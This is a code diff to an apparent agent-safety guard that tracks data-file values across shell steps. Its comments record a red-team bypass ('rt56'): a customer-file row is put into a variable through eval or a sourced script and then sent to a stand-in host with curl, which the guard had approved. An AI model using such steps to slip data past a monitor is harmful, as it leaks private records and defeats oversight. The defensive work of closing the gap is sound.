@@ -254,11 +254,33 @@ def mark_data(an: Any, notes: Notes, written: list[str]) -> None:
     the line gave a value it did not read keeps ``DATA`` for later steps (``export T=$(sed -n 2p customers.csv)`` one
     step, ``curl "http://h/$T"`` the next; ``printf -v U %s "$T"`` in between), and so does each file it wrote
     (``sed -n 2p customers.csv > t.txt``, read back a step later)."""
-    for name, _, _ in notes.sources:
+    # rt56: and every name code the line ran gave one (`eval "T=$(sed -n 2p clients)"`, a function's body, a sourced
+    # file): only the line's own assignments were marked, so `$T` a step after the eval carried the row, approved
+    for name in [*(name for name, _, _ in notes.sources), *an.values.nested]:
         if may_hold_unread(an.values, name):
             an.values.deps.setdefault(name, set()).add(DATA)
     for path in written:
         an.values.deps[FILE + path] = {DATA}
+
+
+def data_script(an: Any, path: str, cwd: str | None, text: str) -> None:
+    """rt56: a file of shell code the line reads (``. ./vars``, ``source env.sh``, ``sh r.sh``) that an earlier line
+    wrote from a data file's text, or whose own text names one or has the shape of records: each name it assigns
+    keeps ``DATA`` (``echo "T=$(sed -n 2p clients)" > vars``, then ``. ./vars``, then ``curl "http://h/$T"``: the
+    value is a literal in the file, so the guard read it as clean)."""
+    from macrohard.safety import flows
+    from macrohard.safety.shellparse import parse
+
+    where = an.paths.resolve(path, cwd)
+    if not (data_file(an.values, where) or flows.names_data(path) or flows.records_file(where) or
+            flows.names_data(text) or flows.named_records(an, text, code=True)):
+        return
+    try:
+        assigned = parse(text).assigned
+    except Exception:  # noqa: BLE001 - code the parser cannot read: the other checks judge it
+        return
+    for name in assigned:
+        an.values.deps.setdefault(name, set()).add(DATA)
 
 
 def data_file(values: Values, path: str) -> bool:
